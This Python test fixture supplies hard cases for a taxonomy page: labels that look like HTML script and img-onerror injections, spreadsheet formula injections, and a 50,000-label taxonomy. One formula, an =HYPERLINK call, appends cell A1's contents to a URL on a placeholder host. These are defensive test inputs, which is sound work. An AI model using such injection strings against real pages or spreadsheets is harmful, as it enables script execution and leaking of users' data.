"""Difficult taxonomies for a page: labels that look like HTML and formulas, and very many labels."""

from hill.taxonomy import Label, Taxonomy

IMAGE = "<img src=x onerror=\"document.title='broken'\">"
SCRIPT = "<script>document.title='broken'</script>"
FORMULA = "=HYPERLINK(\"http://x/?\"&A1;'x')"

HOSTILE = (
    [f"{text} {i}" for i in range(6) for text in ("alpha beta", "gamma delta", "omega psi")],
    [["=1+1"], ["a/b?c#d%20"], ["plain"]] * 6,
)
PREDICTED = ["r19", "f979", "w4900"]


def hostile_taxonomy() -> Taxonomy:
    return Taxonomy(
        [
            Label(SCRIPT, IMAGE),
            Label("=1+1", FORMULA, (SCRIPT,), f"Described by {SCRIPT}"),
            Label("a/b?c#d%20", 'A "quoted", name', (SCRIPT,)),
            Label("plain", "@SUM(A1)"),
        ]
    )


def large_taxonomy() -> Taxonomy:
    """50,000 labels on 3 levels; one label has 5,000 children, and `w4900` is one of the last."""
    areas = [Label(f"r{i}", f"Area {i}") for i in range(20)]
    fields = [Label(f"f{i}", f"Field {i}", (f"r{i % 20}",)) for i in range(980)]
    topics = [Label(f"t{i}", f"Topic {i} of things", (f"f{i % 970}",)) for i in range(44_000)]
    wide = [Label(f"w{i}", f"Wide {i}", ("f979",)) for i in range(5_000)]
    return Taxonomy([*areas, *fields, *topics, *wide])
